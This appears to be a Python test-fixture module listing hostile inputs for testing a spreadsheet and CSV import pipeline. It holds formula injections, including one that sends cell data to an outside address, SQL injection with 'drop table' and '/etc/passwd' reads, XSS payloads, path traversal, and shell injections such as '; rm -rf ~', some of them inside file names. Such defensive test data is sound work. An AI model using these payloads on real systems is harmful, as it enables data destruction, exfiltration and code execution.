"""Texts that do harm where somebody forgets that they come from a stranger."""

from __future__ import annotations

ABSURD_NUMBERS = (
    "99999999999999999999999999999999999999",
    "-1E+308",
    "1e-400",
    "NaN",
    "inf",
    "0x7fffffff",
    "１２３４５６７８９０１２３４５６",
    "1,2,3,4.5.6",
    "٣٤٥",
    "½",
    "100%%%",
    "--5",
    "9" * 400,
    "0." + "3" * 300,
)
CONTROLS = (
    "甲\x01\x02乙",
    "甲\x0b乙",
    "甲\x1f乙",
    "\x7f",
    "甲\u2028乙\u2029",
    "\ufeff甲",
    "甲\ufffe",
    "甲\u202e乙丙\u202c",
    "\u2066<script>\u2069",
    "e\u0301" * 200,
    "👩‍👩‍👧‍👦" * 50,
    "\ufdd0\ufdd1\ufdd2",
    "_x0000_",
    "_x0041_x000d_",
    "甲\ud7ff\ue000",
    "\U0010ffff",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"点")',
    "=WEBSERVICE(A1)",
    "{=1}",
)
SQL = (
    "'; drop table raw.project_register__projects; --",
    '" or 1=1 --',
    "$$); copy t to '/tmp/x'; --",
    "{{ env_var('HOME') }}",
    "{% raw %}",
    "%s%n",
    "\\",
    "''",
    "select * from read_csv('/etc/passwd')",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "]]>",
    "<!--",
    "&lt;b&gt;&amp;amp;",
    "javascript:alert(1)",
    "\"onmouseover='alert(1)'",
    "<Row><Cell>",
)
PATHS = (
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "$(touch x)",
    "`touch x`",
    "; rm -rf ~",
    "a\nb",
    "|cat",
)
LONG = ("长" * 5_000, "A" * 32_767, "甲，" * 20_000, "\n" * 3_000, " " * 9_000)
BLANK = ("", " ", "\u3000", "\u00a0", "\u200b", "/", "无", "-", "——")

ALL = (*ABSURD_NUMBERS, *CONTROLS, *FORMULAS, *SQL, *HTML, *PATHS, *LONG, *BLANK)

FILE_NAMES = (
    "'; drop table raw.findings; --.csv",
    "$(touch 危险).xlsx",
    "`id`.xls",
    "-rf.csv",
    "--help.xlsx",
    "<script>alert(1)<／script>.csv",
    "名\n字.csv",
    "名\r\x1b[31m字.xls",
    "=cmd|'calc'!A1.csv",
    "\u202exslx.csv",
    "长" * 80 + ".csv",
    "a" * 251 + ".csv",
    "…" * 60 + ".xlsx",
    " .csv",
    "。.xls",
    "%00.csv",
    "CON.xls",
    "a.csv.exe",
    ".hidden.csv",
    "👩‍👩‍👧‍👦.csv",
    "&lt;b&gt;.csv",
    "{{ 1 }}.csv",
    "a!b.csv",
)
"""Names of files as a sender may choose them; none longer than a file system holds."""
